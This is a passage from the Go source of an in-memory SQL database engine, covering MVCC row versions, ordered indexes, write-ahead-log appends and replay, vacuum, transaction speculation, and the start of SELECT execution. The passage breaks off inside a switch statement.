// linear EqualFold walk remains only as a fallback for programmatically
// built statements with non-ASCII case variants.
func (t *table) colIndex(name string) int {
	if i, ok := t.colIdx[strings.ToLower(name)]; ok {
		return i
	}
	for i, c := range t.cols {
		if strings.EqualFold(c.Name, name) {
			return i
		}
	}
	return -1
}

// scope resolves column references to positions in the row layout an
// expression evaluates against. A single table is a scope over its own
// columns; a join evaluates against concatenated left++right rows via
// joinScope (join.go). Keeping resolution behind this interface lets
// eval/validate code serve both layouts unchanged.
type scope interface {
	resolveCol(name string) (int, error)
}

// splitQualifier splits a table-qualified column reference "t.c" into
// its qualifier and column. Names without a dot — or with an empty half,
// which no real qualification produces — return ok=false and resolve as
// plain column names.
func splitQualifier(name string) (qual, col string, ok bool) {
	i := strings.IndexByte(name, '.')
	if i <= 0 || i == len(name)-1 {
		return "", "", false
	}
	return name[:i], name[i+1:], true
}

// resolveCol resolves a (possibly table-qualified) column reference
// against this table. Exact column names win first — a column literally
// named "a.b" keeps resolving as it always has — then "t.c" resolves c
// when t names this table. The returned error always names the table(s)
// searched (the ErrNoColumn contract).
func (t *table) resolveCol(name string) (int, error) {
	if ci := t.colIndex(name); ci >= 0 {
		return ci, nil
	}
	if qual, col, ok := splitQualifier(name); ok {
		if !strings.EqualFold(qual, t.name) {
			return -1, fmt.Errorf("%w: %s (table %s is not in this query)", ErrNoColumn, name, qual)
		}
		if ci := t.colIndex(col); ci >= 0 {
			return ci, nil
		}
		return -1, fmt.Errorf("%w: %s.%s", ErrNoColumn, t.name, col)
	}
	return -1, fmt.Errorf("%w: %s.%s", ErrNoColumn, t.name, name)
}

// outColName names a projected column in a result: a reference that
// resolved through a table qualifier keeps its qualification (with the
// table and column canonically spelled), everything else keeps the
// column's declared name.
func (t *table) outColName(ref string, ci int) string {
	if t.colIndex(ref) < 0 {
		if _, _, ok := splitQualifier(ref); ok {
			return t.name + "." + t.cols[ci].Name
		}
	}
	return t.cols[ci].Name
}

// indexKey is the canonical equality key of a value: non-null values key
// by their rendered form, matching valueCompare's MySQL-ish coercion
// (int 1 and text '1' compare equal and share a key); NULL gets a
// reserved key that no `col = literal` lookup ever probes, since SQL
// equality with NULL never matches. The ordered-index structure itself
// lives in index.go.
func indexKey(v value) string {
	if v.null {
		return "\x00null"
	}
	return "=" + v.String()
}

// keyMatches reports indexKey(v) == key without materializing the key
// string. The visible-key rule runs this once per index candidate on
// the lock-free read path, where a per-row FormatInt+concat would
// dominate the profile. Ints render into a stack buffer (the
// byte-slice/string comparison below does not allocate), so a text key
// like "=01" still correctly differs from int 1's canonical "=1".
func keyMatches(v value, key string) bool {
	if v.null {
		return key == "\x00null"
	}
	if len(key) == 0 || key[0] != '=' {
		return false
	}
	if !v.isInt {
		return key[1:] == v.s
	}
	var buf [20]byte
	return string(strconv.AppendInt(buf[:0], v.i, 10)) == key[1:]
}

// buildIndex constructs an orderedIndex over column ci from the version
// chains. Every reachable (non-tombstone) version contributes its key,
// not just the newest: a snapshot older than the build may later probe
// this index, and the superset invariant must hold for the values *it*
// sees. Keys that only old versions carry come back as stale refs so
// vacuum reclaims them on the usual schedule.
func buildIndex(entries []*rowEntry, ci int) (*orderedIndex, []staleRef) {
	ix := newOrderedIndex()
	var stale []staleRef
	for _, en := range entries {
		head := en.head.Load()
		var headKey string
		haveHead := head != nil && !head.tomb
		if haveHead {
			headKey = indexKey(head.vals[ci])
		}
		seen := map[string]bool{}
		for v := head; v != nil; v = v.prev {
			if v.tomb {
				continue
			}
			k := indexKey(v.vals[ci])
			if seen[k] {
				continue
			}
			seen[k] = true
			ix.add(v.vals[ci], en.id)
			if !haveHead || k != headKey {
				stale = append(stale, staleRef{ci: ci, v: v.vals[ci], id: en.id})
			}
		}
	}
	return ix, stale
}

// schemaGenCounter issues process-unique schema generations: every DDL
// statement (CREATE/DROP TABLE or INDEX) stamps its engine with a fresh
// generation, and plan-cache entries compiled against an older (or other
// engine's) generation recompile instead of reusing stale schema
// conclusions. Uniqueness across engines matters because transactions
// execute against speculative engines.
var schemaGenCounter atomic.Uint64

// provisionalIDBase is where a transaction's speculative engine starts
// allocating row ids. Ids at or above it never collide with the base
// engine's (which would need 2^62 inserts); Commit remaps them onto
// fresh base ids in redo order.
const provisionalIDBase = uint64(1) << 62

// vacuumEvery is the mutation cadence of the background reclamation
// pass: every vacuumEvery applied mutations (and every Compact) the
// engine prunes version chains, drops dead entries, and drains stale
// index refs no registered snapshot can still need.
const vacuumEvery = 512

// rowOp kinds. A rowOp is the row-level effect of one validated DML
// statement: the exact versions a commit installs, keyed by stable row
// id — the unit the WAL logs (wal.go 'R' records) and Commit
// conflict-checks.
const (
	opInsert = 'i'
	opUpdate = 'u'
	opDelete = 'd'
)

type rowOp struct {
	kind  byte
	table string // lower-cased table key
	id    uint64
	vals  []value // full row for insert/update; nil for delete
}

// redoRec is one statement's worth of a transaction's redo: either a
// DDL statement (logged as dialect text) or the row ops of a DML
// statement. Commit replays them onto the base engine in order.
type redoRec struct {
	ddl Statement
	ops []rowOp
}

// Engine is the in-memory database engine. It is safe for concurrent
// use: SELECTs capture a snapshot under a brief read lock and evaluate
// rows lock-free against immutable versions, while writers (including
// index maintenance and vacuum) serialize under the write lock.
type Engine struct {
	mu     sync.RWMutex
	tables map[string]*table
	gen    atomic.Uint64

	// frontier is the newest committed version: a mutation installs its
	// versions with born = frontier+1 and then publishes them all at
	// once by storing the new frontier. Only the write lock moves it, so
	// a snapshot captured under the read lock is stable.
	frontier atomic.Uint64

	// nextID allocates stable row ids, monotonically; ids are never
	// reused, so ascending id order is insertion order — the scan order.
	// Guarded by mu.
	nextID uint64

	// muts counts mutations since the last vacuum. Guarded by mu.
	muts int

	// snaps tracks registered snapshots (version → refcount) so vacuum
	// reclaims only versions no active reader, transaction, or
	// mid-evaluation SELECT can reach. Guarded by snapMu (not mu:
	// readers register while holding only the read lock).
	snapMu sync.Mutex
	snaps  map[uint64]int

	// wal, when non-nil, is the write-ahead log this engine appends every
	// successful mutation to — inside the write-lock critical section, so
	// a mutation is durable (per the sync policy) before its ack leaves
	// the engine. See wal.go / recover.go.
	wal *wal

	// autoCompact, when > 0, is the WAL size (bytes) past which a
	// mutation triggers a background Compact (DB.SetWALAutoCompact);
	// compacting debounces so only one runs at a time.
	autoCompact atomic.Int64
	compacting  atomic.Bool

	// Transaction speculation: a Tx's private engine has txBase set to
	// the engine it forked from and txSnap to the registered snapshot it
	// reads at. Its tables map starts as a shallow copy of the base
	// catalog; owned marks tables materialized (deep-copied at txSnap)
	// on first write, and beginTables remembers the base catalog as of
	// Begin for Commit's conflict check. redo records every mutation.
	// A speculative engine is confined to its transaction, so these
	// need no locking beyond the Tx's own mutex.
	txBase      *Engine
	txSnap      uint64
	owned       map[string]bool
	beginTables map[string]*table
	redo        []redoRec
}

// NewEngine returns an empty database engine.
func NewEngine() *Engine {
	e := &Engine{tables: make(map[string]*table), nextID: 1}
	e.gen.Store(schemaGenCounter.Add(1))
	return e
}

// SchemaGen returns the engine's current schema generation: a
// process-unique value that changes on every CREATE/DROP of a table or
// index. Cached query plans key their schema-derived state on it.
func (e *Engine) SchemaGen() uint64 { return e.gen.Load() }

func (e *Engine) bumpSchemaGen() { e.gen.Store(schemaGenCounter.Add(1)) }

// acquireSnap registers the current frontier as an active snapshot and
// returns it. Callers must hold e.mu (read or write): the frontier
// cannot move while any lock is held, so registration cannot race a
// commit, and vacuum (which runs under the write lock) will see the
// registration before it could reclaim anything the snapshot needs.
func (e *Engine) acquireSnap() uint64 {
	s := e.frontier.Load()
	e.snapMu.Lock()
	if e.snaps == nil {
		e.snaps = make(map[uint64]int)
	}
	e.snaps[s]++
	e.snapMu.Unlock()
	return s
}

func (e *Engine) releaseSnap(s uint64) {
	e.snapMu.Lock()
	if e.snaps[s]--; e.snaps[s] <= 0 {
		delete(e.snaps, s)
	}
	e.snapMu.Unlock()
}

// minActiveSnap returns the oldest version any registered snapshot (or
// the frontier itself) can read. Caller holds the write lock.
func (e *Engine) minActiveSnap() uint64 {
	min := e.frontier.Load()
	e.snapMu.Lock()
	for s := range e.snaps {
		if s < min {
			min = s
		}
	}
	e.snapMu.Unlock()
	return min
}

// rawResult is the engine-level result of a SELECT: column names plus
// plain values.
type rawResult struct {
	cols []string
	rows [][]value
}

// Len reports the row count. Callers outside the package hold *rawResult
// values returned by ExecuteRaw; this lets them size-check results.
func (r *rawResult) Len() int {
	if r == nil {
		return 0
	}
	return len(r.rows)
}

// ExecuteRaw runs a statement and returns the raw result (SELECT) or nil.
// affected reports the number of rows touched by INSERT/UPDATE/DELETE.
// SELECTs evaluate against a snapshot with no lock held; all other
// statements serialize under the write lock.
func (e *Engine) ExecuteRaw(stmt Statement) (res *rawResult, affected int, err error) {
	if s, ok := stmt.(*Select); ok {
		r, err := e.execSelect(s)
		return r, 0, err
	}
	// A speculative engine materializes the target table (a private copy
	// of the rows visible at its snapshot) before any write touches it.
	if e.txBase != nil {
		if key, ok := mutationTarget(stmt); ok {
			e.materialize(key)
		}
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal != nil {
		// Refuse up front rather than validate work the log cannot ack
		// (closed database, or a log that already failed a write).
		if werr := e.wal.usable(); werr != nil {
			return nil, 0, werr
		}
	}
	switch stmt.(type) {
	case *CreateTable, *DropTable, *CreateIndex, *DropIndex:
		_, apply, err := e.validateDDL(stmt)
		if err != nil {
			// A statement that failed validation was never applied and must
			// leave the log byte-identical (tested by
			// TestRejectedStatementLeavesWALUntouched).
			return nil, 0, err
		}
		// Write-ahead for real: the record is durable (per the sync
		// policy) before the infallible apply step mutates memory, so a
		// failed append — disk full, closed log — rejects the statement
		// with both memory and log unchanged.
		if e.wal != nil {
			if werr := e.wal.appendStmt(stmt.SQL()); werr != nil {
				return nil, 0, werr
			}
		}
		if e.txBase != nil {
			e.redo = append(e.redo, redoRec{ddl: stmt})
		}
		apply()
		return nil, 0, nil
	default:
		n, ops, err := e.validateDML(stmt)
		if err != nil {
			return nil, 0, err
		}
		if len(ops) == 0 {
			// UPDATE/DELETE that matched nothing: replaying a no-op is
			// sound but would grow the log (and burn a version) for
			// nothing.
			return nil, n, nil
		}
		if e.wal != nil {
			if werr := e.wal.appendOps(ops); werr != nil {
				return nil, 0, werr
			}
		}
		if e.txBase != nil {
			e.redo = append(e.redo, redoRec{ops: ops})
		}
		born := e.frontier.Load() + 1
		e.applyOps(ops, born)
		e.frontier.Store(born)
		e.afterMutate()
		return nil, n, nil
	}
}

// mutationTarget names the table a mutating statement writes. CREATE
// TABLE is excluded: it targets a table that must not exist yet.
func mutationTarget(stmt Statement) (string, bool) {
	switch s := stmt.(type) {
	case *DropTable:
		return strings.ToLower(s.Table), true
	case *CreateIndex:
		return strings.ToLower(s.Table), true
	case *DropIndex:
		return strings.ToLower(s.Table), true
	case *Insert:
		return strings.ToLower(s.Table), true
	case *Update:
		return strings.ToLower(s.Table), true
	case *Delete:
		return strings.ToLower(s.Table), true
	}
	return "", false
}

// validateDDL checks a schema statement and returns an apply step that
// cannot fail.
func (e *Engine) validateDDL(stmt Statement) (int, func(), error) {
	switch s := stmt.(type) {
	case *CreateTable:
		return e.createTable(s)
	case *DropTable:
		return e.dropTable(s)
	case *CreateIndex:
		return e.createIndex(s)
	case *DropIndex:
		return e.dropIndex(s)
	default:
		return 0, nil, fmt.Errorf("sqldb: unsupported statement %T", stmt)
	}
}

// validateDML checks a row-mutating statement under the held write lock
// and returns the affected-row count plus the row ops to install: every
// error surfaces here, before the WAL logs the ops, so a logged record
// always replays.
func (e *Engine) validateDML(stmt Statement) (int, []rowOp, error) {
	switch s := stmt.(type) {
	case *Insert:
		return e.insert(s)
	case *Update:
		return e.update(s)
	case *Delete:
		return e.delete(s)
	default:
		return 0, nil, fmt.Errorf("sqldb: unsupported statement %T", stmt)
	}
}

// applyOps installs validated row ops as versions born at the given
// commit version. It cannot fail: replay validates ops separately
// (checkOps) before calling it.
func (e *Engine) applyOps(ops []rowOp, born uint64) {
	for i := range ops {
		op := &ops[i]
		t := e.tables[op.table]
		switch op.kind {
		case opInsert:
			en := &rowEntry{id: op.id}
			en.head.Store(&rowVersion{born: born, vals: op.vals})
			t.entries = append(t.entries, en)
			t.byID[op.id] = en
			if op.id >= e.nextID {
				e.nextID = op.id + 1
			}
			for ci, ix := range t.indexes {
				ix.add(op.vals[ci], op.id)
			}
		case opUpdate:
			en := t.byID[op.id]
			old := en.head.Load()
			en.head.Store(&rowVersion{born: born, vals: op.vals, prev: old})
			for ci, ix := range t.indexes {
				if old.tomb || indexKey(old.vals[ci]) != indexKey(op.vals[ci]) {
					ix.add(op.vals[ci], op.id)
					if !old.tomb {
						t.stale = append(t.stale, staleRef{ci: ci, v: old.vals[ci], id: op.id})
					}
				}
			}
		case opDelete:
			en := t.byID[op.id]
			old := en.head.Load()
			en.head.Store(&rowVersion{born: born, tomb: true, prev: old})
			if !old.tomb {
				for ci := range t.indexes {
					t.stale = append(t.stale, staleRef{ci: ci, v: old.vals[ci], id: op.id})
				}
			}
		}
	}
	e.muts += len(ops)
}

// checkOps validates replayed row ops against the engine's current
// state — the semantic half of WAL integrity, catching checksummed-but-
// nonsensical records before the infallible apply.
func (e *Engine) checkOps(ops []rowOp) error {
	// Simulate id liveness within the batch: a later op may target a row
	// an earlier op of the same batch inserts or deletes.
	born := map[uint64]bool{}
	dead := map[uint64]bool{}
	for i := range ops {
		op := &ops[i]
		t := e.tables[op.table]
		if t == nil {
			return fmt.Errorf("%w: %s", ErrNoTable, op.table)
		}
		switch op.kind {
		case opInsert:
			if len(op.vals) != len(t.cols) {
				return fmt.Errorf("sqldb: row op arity %d != %d columns of %s", len(op.vals), len(t.cols), op.table)
			}
			if _, ok := t.byID[op.id]; ok || born[op.id] {
				return fmt.Errorf("sqldb: duplicate row id %d in %s", op.id, op.table)
			}
			born[op.id] = true
		case opUpdate, opDelete:
			if op.kind == opUpdate && len(op.vals) != len(t.cols) {
				return fmt.Errorf("sqldb: row op arity %d != %d columns of %s", len(op.vals), len(t.cols), op.table)
			}
			if dead[op.id] {
				return fmt.Errorf("sqldb: row op targets deleted id %d in %s", op.id, op.table)
			}
			if _, ok := t.byID[op.id]; !ok && !born[op.id] {
				return fmt.Errorf("sqldb: row op targets unknown id %d in %s", op.id, op.table)
			}
			if op.kind == opDelete {
				dead[op.id] = true
			}
		default:
			return fmt.Errorf("sqldb: unknown row op kind 0x%02x", op.kind)
		}
	}
	return nil
}

// applyReplayOps validates and applies one WAL record's ops during
// recovery, bumping the frontier exactly like the live mutation did.
func (e *Engine) applyReplayOps(ops []rowOp) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if err := e.checkOps(ops); err != nil {
		return err
	}
	born := e.frontier.Load() + 1
	e.applyOps(ops, born)
	e.frontier.Store(born)
	return nil
}

// applyReplayGroup validates and applies one committed WAL transaction
// group under a single commit version — the replay mirror of commitOps,
// which logs a whole group and bumps the frontier exactly once. Using it
// for every B..C group (and for standalone records, as one-item groups)
// keeps replayed and shipped frontiers numerically identical to the
// primary's live frontier, which is what lets a replica report "applied
// through version N" meaningfully. DDL applies without a version bump
// and without re-appending to the log: the record's bytes are already in
// the log being replayed (recovery) or mirrored (follower shipping).
func (e *Engine) applyReplayGroup(items []walItem) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	born := e.frontier.Load() + 1
	bumped := false
	for _, it := range items {
		if it.ops != nil {
			if err := e.checkOps(it.ops); err != nil {
				return err
			}
			e.applyOps(it.ops, born)
			bumped = true
			continue
		}
		stmt, err := Parse(core.NewString(it.stmt))
		if err != nil {
			return err
		}
		switch stmt.(type) {
		case *CreateTable, *DropTable, *CreateIndex, *DropIndex:
			_, apply, verr := e.validateDDL(stmt)
			if verr != nil {
				return verr
			}
			apply()
		case *Select:
			return fmt.Errorf("sqldb: non-mutating statement in WAL: %s", it.stmt)
		default:
			// Legacy v1 DML statement record: validate and apply under
			// the group's single version.
			_, ops, verr := e.validateDML(stmt)
			if verr != nil {
				return verr
			}
			if len(ops) > 0 {
				e.applyOps(ops, born)
				bumped = true
			}
		}
	}
	if bumped {
		e.frontier.Store(born)
	}
	return nil
}

// afterMutate runs the post-apply housekeeping a real engine does under
// its held write lock: vacuum on cadence, and the auto-compact trigger.
// Speculative engines skip both — their versions die with the Tx.
func (e *Engine) afterMutate() {
	if e.txBase != nil {
		return
	}
	if e.muts >= vacuumEvery {
		e.vacuum()
	}
	if limit := e.autoCompact.Load(); limit > 0 && e.wal != nil && e.wal.size > limit &&
		e.compacting.CompareAndSwap(false, true) {
		go func() {
			defer e.compacting.Store(false)
			// Best-effort: a failed compaction leaves the old (valid) log;
			// a broken WAL already refuses appends with its own error.
			e.compactWAL() //nolint:errcheck
		}()
	}
}

// vacuum reclaims what no registered snapshot can reach: it prunes
// version chains below the oldest active snapshot, drops entries whose
// newest version is an unreachable tombstone, and drains stale index
// refs whose keys no surviving version carries. Runs under the write
// lock; readers mid-evaluation are safe because they registered their
// snapshot (bounding minActiveSnap) and hold their own entries/bucket
// slice copies (vacuum replaces slices, never compacts them in place).
func (e *Engine) vacuum() {
	min := e.minActiveSnap()
	for _, t := range e.tables {
		t.vacuum(min)
	}
	e.muts = 0
}

func (t *table) vacuum(min uint64) {
	anyDead := false
	for _, en := range t.entries {
		head := en.head.Load()
		// Cut the chain below the newest version an active snapshot can
		// still pick: every snapshot ≥ min stops at or above it, so no
		// reader will ever load the severed prev pointer.
		for v := head; v != nil; v = v.prev {
			if v.born <= min {
				v.prev = nil
				break
			}
		}
		if head.born <= min && head.tomb {
			anyDead = true
		}
	}
	if anyDead {
		kept := make([]*rowEntry, 0, len(t.entries))
		for _, en := range t.entries {
			head := en.head.Load()
			if head.born <= min && head.tomb {
				delete(t.byID, en.id)
				continue
			}
			kept = append(kept, en)
		}
		t.entries = kept
	}
	if len(t.stale) == 0 {
		return
	}
	type staleKey struct {
		ci  int
		key string
		id  uint64
	}
	var remain []staleRef
	seen := make(map[staleKey]bool, len(t.stale))
	for _, sr := range t.stale {
		ix := t.indexes[sr.ci]
		if ix == nil {
			continue // index dropped; nothing to drain
		}
		k := indexKey(sr.v)
		if seen[staleKey{sr.ci, k, sr.id}] {
			continue
		}
		seen[staleKey{sr.ci, k, sr.id}] = true
		en := t.byID[sr.id]
		if en == nil {
			ix.remove(sr.v, sr.id)
			continue
		}
		carried := false
		for v := en.head.Load(); v != nil; v = v.prev {
			if !v.tomb && indexKey(v.vals[sr.ci]) == k {
				carried = true
				break
			}
		}
		if carried {
			// Some reachable version still holds this key (the row moved
			// back, or an old version survives for an active snapshot);
			// the pair must stay. Retry on a later vacuum.
			remain = append(remain, sr)
			continue
		}
		ix.remove(sr.v, sr.id)
	}
	t.stale = remain
}

// materialize gives a speculative engine its own copy of a base table —
// the rows visible at the transaction's snapshot, same ids, rebuilt
// indexes — so writes stay private. Reads of untouched tables keep
// going straight to the base at the snapshot (no copy).
func (e *Engine) materialize(key string) {
	if e.owned[key] {
		return
	}
	t := e.tables[key]
	if t == nil {
		return // validation will report ErrNoTable
	}
	b := e.txBase
	b.mu.RLock()
	nt := newTable(t.name, t.cols)
	for _, en := range t.entries {
		if v := en.visible(e.txSnap); v != nil {
			ne := &rowEntry{id: en.id}
			ne.head.Store(&rowVersion{vals: v.vals}) // born 0: visible to the whole Tx
			nt.entries = append(nt.entries, ne)
			nt.byID[en.id] = ne
		}
	}
	if len(t.indexes) > 0 {
		nt.indexes = make(map[int]*orderedIndex, len(t.indexes))
		for ci := range t.indexes {
			ix, _ := buildIndex(nt.entries, ci) // single-version chains: nothing stale
			nt.indexes[ci] = ix
		}
	}
	b.mu.RUnlock()
	e.tables[key] = nt
	e.owned[key] = true
}

// Schema returns the column definitions of a table.
func (e *Engine) Schema(name string) ([]ColumnDef, error) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	t, ok := e.tables[strings.ToLower(name)]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoTable, name)
	}
	return append([]ColumnDef(nil), t.cols...), nil
}

// Tables returns the sorted table names.
func (e *Engine) Tables() []string {
	e.mu.RLock()
	defer e.mu.RUnlock()
	out := make([]string, 0, len(e.tables))
	for n := range e.tables {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

func (e *Engine) createTable(s *CreateTable) (int, func(), error) {
	key := strings.ToLower(s.Table)
	if _, ok := e.tables[key]; ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrTableExists, s.Table)
	}
	seen := make(map[string]bool)
	for _, c := range s.Cols {
		k := strings.ToLower(c.Name)
		if seen[k] {
			return 0, nil, fmt.Errorf("sqldb: duplicate column %q", c.Name)
		}
		seen[k] = true
	}
	return 0, func() {
		e.tables[key] = newTable(s.Table, append([]ColumnDef(nil), s.Cols...))
		if e.txBase != nil {
			e.owned[key] = true
		}
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) dropTable(s *DropTable) (int, func(), error) {
	key := strings.ToLower(s.Table)
	if _, ok := e.tables[key]; !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	return 0, func() {
		delete(e.tables, key)
		// A speculative engine keeps its owned marker: the transaction
		// touched this name, so Commit must still pointer-check the base
		// catalog entry it was dropped from.
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) createIndex(s *CreateIndex) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	ci := t.colIndex(s.Column)
	if ci < 0 {
		return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, s.Column)
	}
	if _, ok := t.indexes[ci]; ok {
		return 0, nil, fmt.Errorf("%w: %s (%s)", ErrIndexExists, s.Table, s.Column)
	}
	return 0, func() {
		if t.indexes == nil {
			t.indexes = make(map[int]*orderedIndex, 1)
		}
		ix, stale := buildIndex(t.entries, ci)
		t.indexes[ci] = ix
		t.stale = append(t.stale, stale...)
		e.bumpSchemaGen()
	}, nil
}

func (e *Engine) dropIndex(s *DropIndex) (int, func(), error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	ci := t.colIndex(s.Column)
	if ci < 0 {
		return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, s.Column)
	}
	if _, ok := t.indexes[ci]; !ok {
		return 0, nil, fmt.Errorf("%w: %s (%s)", ErrNoIndex, s.Table, s.Column)
	}
	return 0, func() {
		delete(t.indexes, ci)
		e.bumpSchemaGen()
	}, nil
}

// Indexes returns the names of the indexed columns of a table, sorted.
// On a speculative engine an unmaterialized table delegates to the base
// (its index set may be changing under the base's lock, not ours).
func (e *Engine) Indexes(name string) ([]string, error) {
	key := strings.ToLower(name)
	if e.txBase != nil && !e.owned[key] {
		if _, ok := e.tables[key]; ok {
			return e.txBase.Indexes(name)
		}
	}
	e.mu.RLock()
	defer e.mu.RUnlock()
	t, ok := e.tables[key]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoTable, name)
	}
	out := make([]string, 0, len(t.indexes))
	for ci := range t.indexes {
		out = append(out, t.cols[ci].Name)
	}
	sort.Strings(out)
	return out, nil
}

// literalValue converts a literal expression to a stored value, coercing
// to the column type.
func literalValue(ex Expr, typ ColType) (value, error) {
	switch v := ex.(type) {
	case *NullLit:
		return nullValue(), nil
	case *StringLit:
		if typ == ColInt {
			n, err := strconv.ParseInt(strings.TrimSpace(v.Val.Raw()), 10, 64)
			if err != nil {
				return value{}, fmt.Errorf("%w: %q is not an integer", ErrTypeMismatch, v.Val.Raw())
			}
			return intValue(n), nil
		}
		return textValue(v.Val.Raw()), nil
	case *IntLit:
		if typ == ColInt {
			return intValue(v.Val), nil
		}
		return textValue(strconv.FormatInt(v.Val, 10)), nil
	case *Placeholder:
		return value{}, fmt.Errorf("sqldb: unbound placeholder ?%d", v.Ord)
	default:
		return value{}, fmt.Errorf("sqldb: expected literal, got %T", ex)
	}
}

func (e *Engine) insert(s *Insert) (int, []rowOp, error) {
	t, ok := e.tables[strings.ToLower(s.Table)]
	if !ok {
		return 0, nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
	}
	idx := make([]int, len(s.Columns))
	for i, name := range s.Columns {
		ci := t.colIndex(name)
		if ci < 0 {
			return 0, nil, fmt.Errorf("%w: %s.%s", ErrNoColumn, s.Table, name)
		}
		idx[i] = ci
	}
	key := strings.ToLower(s.Table)
	// Convert every row in the validate phase, so a bad value in any row
	// rejects the whole INSERT before a single row (or WAL record) lands.
	// Row ids are provisional against nextID; apply claims them.
	ops := make([]rowOp, 0, len(s.Rows))
	for k, exprs := range s.Rows {
		row := make([]value, len(t.cols))
		for i := range row {
			row[i] = nullValue()
		}
		for i, ex := range exprs {
			v, err := literalValue(ex, t.cols[idx[i]].Type)
			if err != nil {
				return 0, nil, err
			}
			row[idx[i]] = v
		}
		ops = append(ops, rowOp{kind: opInsert, table: key, id: e.nextID + uint64(k), vals: row})
	}
	return len(s.Rows), ops, nil
}

// matchEntries returns the entries whose version visible at snap
// satisfies where, with those versions, in ascending id (scan) order —
// via an index when the predicate analyzer finds a usable probe.
func (t *table) matchEntries(where Expr, snap uint64) ([]*rowEntry, []*rowVersion, error) {
	var ents []*rowEntry
	var vers []*rowVersion
	if probe := t.analyzeProbe(where); probe != nil {
		for _, c := range probe.rowOrderCandidates() {
			en := t.byID[c.id]
			if en == nil {
				continue
			}
			v := en.visible(snap)
			if v == nil || indexKey(v.vals[probe.ci]) != c.key {
				continue
			}
			ok, err := evalBool(where, t, v.vals)
			if err != nil {
				return nil, nil, err
			}
			if ok {
				ents = append(ents, en)
				vers = append(vers, v)
			}
		}
		return ents, vers, nil
	}
	for _, en := range t.entries {
		v := en.visible(snap)
		if v == nil {
			continue
		}
		ok, err := evalBool(where, t, v.vals)
		if err != nil {
			return nil, nil, err
		}
		if ok {
			ents = append(ents, en)
			vers = append(vers, v)
		}
	}
	return ents, vers, nil
}

// selCand is one candidate row a SELECT's collection phase emitted: the
// entry plus, for index traversals, the bucket key it was found under
// (checkKey false for scans — every entry is its own candidate).
type selCand struct {
	en       *rowEntry
	key      string
	checkKey bool
}

// execSelect runs a SELECT. On a speculative engine, reads of tables
// the transaction has not written go straight to the base engine at the
// transaction's snapshot — Begin pays no copy for them. A join whose
// sides straddle the two engines (one side written by the transaction,
// the other not) materializes the unwritten side first: both sides then
// read one engine at one snapshot, never a mix.
func (e *Engine) execSelect(s *Select) (*rawResult, error) {
	if s.LimitExpr != nil {
		return nil, fmt.Errorf("sqldb: unbound LIMIT placeholder")
	}
	if e.txBase != nil {
		lkey := strings.ToLower(s.Table)
		lt, lok := e.tables[lkey]
		if s.Join == nil {
			if lok && !e.owned[lkey] {
				snap := e.txSnap
				return e.txBase.selectAt(lt, s, &snap)
			}
			return e.selectAt(nil, s, nil)
		}
		rkey := strings.ToLower(s.Join.Table)
		rt, rok := e.tables[rkey]
		if e.owned[lkey] || e.owned[rkey] {
			e.materialize(lkey)
			e.materialize(rkey)
			return e.selectAt(nil, s, nil)
		}
		if lok && rok {
			snap := e.txSnap
			return e.txBase.selectComplexAt(lt, rt, s, &snap)
		}
	}
	return e.selectAt(nil, s, nil)
}

// selectAt executes a SELECT over e in two phases. Under the read lock
// it resolves the table (t may be pre-resolved by a speculative-engine
// redirect — the pointer stays valid even if the base dropped the name),
// validates the statement, captures the snapshot (pinned, or the
// current frontier — registered so vacuum keeps its versions), picks
// the access path, and copies out the candidate set. Then it releases
// the lock and evaluates WHERE, ordering, LIMIT and projection against
// immutable versions — row evaluation never blocks a writer, and no
// writer can perturb it.
func (e *Engine) selectAt(t *table, s *Select, pinned *uint64) (*rawResult, error) {
	if s.Join != nil || s.grouped() {
		return e.selectComplexAt(t, nil, s, pinned)
	}
	e.mu.RLock()
	locked := true
	unlock := func() {
		if locked {
			locked = false
			e.mu.RUnlock()
		}
	}
	defer unlock()

	if t == nil {
		var ok bool
		t, ok = e.tables[strings.ToLower(s.Table)]
		if !ok {
			return nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
		}
	}
	var outCols []string
	var outIdx []int
	if s.Star {
		for i, c := range t.cols {
			outCols = append(outCols, c.Name)
			outIdx = append(outIdx, i)
		}
	} else {
		for _, it := range s.Items {
			ci, err := t.resolveCol(it.Col)
			if err != nil {
				return nil, err
			}
			outCols = append(outCols, t.outColName(it.Col, ci))
			outIdx = append(outIdx, ci)
		}
	}
	if err := validateExpr(s.Where, t); err != nil {
		return nil, err
	}
	orderCI := -1
	if s.OrderBy != "" {
		var err error
		orderCI, err = t.resolveCol(s.OrderBy)
		if err != nil {
			return nil, err
		}
	}

	var snap uint64
	if pinned != nil {
		snap = *pinned
	} else {
		snap = e.acquireSnap()
		defer e.releaseSnap(snap)
	}

	// Pick the access path and copy out candidates. `ordered` records
	// that candidates already come in the requested ORDER BY order, so
	// the post-filter sort (counted by SortCount) can be skipped —
	// ORDER BY pushdown. Every path re-evaluates the full WHERE and the
	// visible-key rule, so the choice affects only cost and never
	// results (docs/SQL.md §4).
	var cands []selCand
	probeCI := -1
	ordered := false
	probe := t.analyzeProbe(s.Where)
	if s.ForceScan {
		probe = nil
	}
	fill := func(ics []indexCand) {
		cands = make([]selCand, 0, len(ics))
		for _, c := range ics {
			if en := t.byID[c.id]; en != nil {
				cands = append(cands, selCand{en: en, key: c.key, checkKey: true})
			}
		}
	}
	switch {
	case probe != nil && orderCI == probe.ci:
		// The probed conjunct is on the ORDER BY column: a key-ordered
		// traversal of the probe span is already sorted. (An equality
		// bucket is one key in ascending row order — exactly what the
		// stable sort would produce for either direction.)
		fill(probe.candidates(s.Desc))
